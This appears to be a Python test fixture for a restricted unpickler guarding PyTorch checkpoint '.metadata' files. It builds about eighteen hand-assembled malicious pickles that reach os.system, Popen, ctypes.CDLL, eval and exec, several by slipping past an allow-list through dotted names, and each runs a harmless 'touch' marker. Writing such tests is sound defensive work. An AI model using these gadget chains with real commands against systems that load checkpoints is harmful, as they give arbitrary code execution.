"""Crafted ``.metadata`` pickles for the restricted unpickler's tests (refexp/record/safe_pickle.py): each gadget,
loaded by plain ``pickle``, runs ``touch MARKER`` (creates its marker file).

They are assembled opcode by opcode (protocol 4, ``STACK_GLOBAL``) because ``pickle.dumps`` cannot write what an
attacker writes: a dotted name that protocol 4 resolves by walking attributes from its module
(``torch.distributed.checkpoint.metadata`` + ``torch.ctypes.CDLL`` is ``ctypes.CDLL``). Every gadget opens with
its named global (memo 0), so that name is the first one any unpickler resolves: a restricted unpickler that
refuses it refuses the file before anything else of it is looked up.
"""

from __future__ import annotations

import os
import pickle
import shlex
import struct
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

METADATA = "torch.distributed.checkpoint.metadata"


def text(s: str) -> bytes:
    data = s.encode()
    return pickle.BINUNICODE + struct.pack("<I", len(data)) + data


def raw(b: bytes) -> bytes:
    return pickle.BINBYTES + struct.pack("<I", len(b)) + b


def glob(module: str, name: str) -> bytes:
    """The global ``module``/``name`` (``name`` may be dotted: protocol 4 walks it)."""
    return text(module) + text(name) + pickle.STACK_GLOBAL


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)`` (REDUCE)."""
    return fn + pickle.MARK + b"".join(args) + pickle.TUPLE + pickle.REDUCE


def items(*xs: bytes) -> bytes:
    """A list of ``xs``."""
    return pickle.EMPTY_LIST + pickle.MARK + b"".join(xs) + pickle.APPENDS


NAMED = pickle.BINGET + bytes([0])
"""The gadget's named global, resolved first (memo 0)."""
NONE = pickle.NONE


def program(module: str, name: str, body: bytes) -> bytes:
    """A pickle that resolves ``module``/``name`` first (memo 0), then evaluates ``body``."""
    return (pickle.PROTO + bytes([4]) + glob(module, name) + pickle.MEMOIZE + pickle.POP + body + pickle.STOP)


# Chains to ``os.system`` through names the old allow-list admitted (any class reachable from METADATA), so the
# dotted gadgets ran there in full: attrgetter's dotted path reaches a function's globals, and so ``os``.
def attr(path: str, obj: bytes, attrgetter: bytes = glob(METADATA, "torch.inspect.attrgetter")) -> bytes:
    """``attrgetter(path)(obj)``."""
    return call(call(attrgetter, text(path)), obj)


def os_module(attrgetter: bytes = glob(METADATA, "torch.inspect.attrgetter")) -> bytes:
    """``os``: ``TensorProperties.__getstate__.__globals__.get("os")``."""
    module_globals = attr("__getstate__.__globals__", glob(METADATA, "TensorProperties"), attrgetter)
    return call(attr("get", module_globals, attrgetter), text("os"))


def os_system(attrgetter: bytes = glob(METADATA, "torch.inspect.attrgetter")) -> bytes:
    return attr("system", os_module(attrgetter), attrgetter)


def builtin(name: str) -> bytes:
    return glob("builtins", name)


@dataclass(frozen=True)
class Gadget:
    """A crafted pickle that names ``module``.``name`` first; ``build(marker)`` is its bytes."""

    module: str
    name: str
    body: Callable[[Path], bytes]

    @property
    def id(self) -> str:
        return f"{self.module}:{self.name}"

    def build(self, marker: Path) -> bytes:
        return program(self.module, self.name, self.body(marker))


def touch(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def _popen(m: Path) -> bytes:  # Popen([...]).wait(): the marker exists when the load returns
    return call(attr("wait", call(NAMED, items(text("sh"), text("-c"), text(touch(m))))))


def _torch_load(m: Path) -> bytes:
    """``torch.load(side, None, pickle)``: a ``pickle_module`` turns weights-only off, and the side file is a
    plain pickle that runs the command."""
    side = m.with_name(m.name + ".side")
    side.write_bytes(pickle.dumps(_System(touch(m))))
    return call(NAMED, text(str(side)), NONE, call(builtin("__import__"), text("pickle")))


class _System:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return os.system, (self.command,)


def _getattr(m: Path) -> bytes:
    def ga(obj: bytes, name: str) -> bytes:
        return call(NAMED, obj, text(name))

    module_globals = ga(ga(glob(METADATA, "TensorProperties"), "__getstate__"), "__globals__")
    os_ = call(ga(module_globals, "get"), text("os"))
    return call(ga(os_, "system"), text(touch(m)))


def _cdll(m: Path) -> bytes:  # CDLL(None) is the process's own symbols, libc's system() among them
    return call(call(builtin("getattr"), call(NAMED, NONE), text("system")), raw(touch(m).encode()))


GADGETS = [
    # dotted names under the module the old allow-list admitted whole: each resolves to a class
    Gadget(METADATA, "torch._strobelight.cli_function_profiler.subprocess.Popen", _popen),
    Gadget(METADATA, "torch.ctypes.CDLL",
           lambda m: call(attr("system", call(NAMED, NONE)), raw(touch(m).encode()))),
    Gadget(METADATA, "torch.functools.partial", lambda m: call(call(NAMED, os_system(), text(touch(m))))),
    Gadget(METADATA, "torch.inspect.attrgetter", lambda m: call(os_system(NAMED), text(touch(m)))),
    Gadget(METADATA, "torch._prims_common.operator.methodcaller",
           lambda m: call(call(NAMED, text("system"), text(touch(m))), os_module())),
    # dotted names under the other admitted modules
    Gadget("torch", "ctypes.CDLL", _cdll),
    Gadget("torch.serialization", "os.system", lambda m: call(NAMED, text(touch(m)))),
    Gadget("torch.distributed.checkpoint.filesystem", "os.system", lambda m: call(NAMED, text(touch(m)))),
    Gadget("pathlib", "os.system", lambda m: call(NAMED, text(touch(m)))),
    # functools.partial applied to an admitted class, then to os.system
    Gadget("functools", "partial", lambda m: call(NAMED, glob(METADATA, "Metadata")) + pickle.POP
           + call(call(NAMED, os_system(), text(touch(m))))),
    Gadget("builtins", "eval", lambda m: call(NAMED, text(f"__import__('os').system({touch(m)!r})"))),
    Gadget("builtins", "exec", lambda m: call(NAMED, text(f"import os; os.system({touch(m)!r})"))),
    Gadget("builtins", "getattr", _getattr),
    Gadget("builtins", "__import__",
           lambda m: call(call(builtin("getattr"), call(NAMED, text("os")), text("system")), text(touch(m)))),
    Gadget("torch", "load", _torch_load),
    Gadget("operator", "methodcaller",
           lambda m: call(call(NAMED, text("system"), text(touch(m))), call(builtin("__import__"), text("os")))),
    Gadget("ctypes", "CDLL", _cdll),
    Gadget("os", "system", lambda m: call(NAMED, text(touch(m)))),
]
"""Each gadget's marker is created when plain ``pickle`` loads it (``test_every_gadget_runs_under_plain_pickle``)."""


def plant(dcp_dir: Path, gadget: Gadget, marker: Path) -> Path:
    """``dcp_dir/.metadata`` replaced by ``gadget`` (running ``touch marker``); returns the file."""
    dcp_dir.mkdir(parents=True, exist_ok=True)
    f = dcp_dir / ".metadata"
    f.write_bytes(gadget.build(marker))
    return f
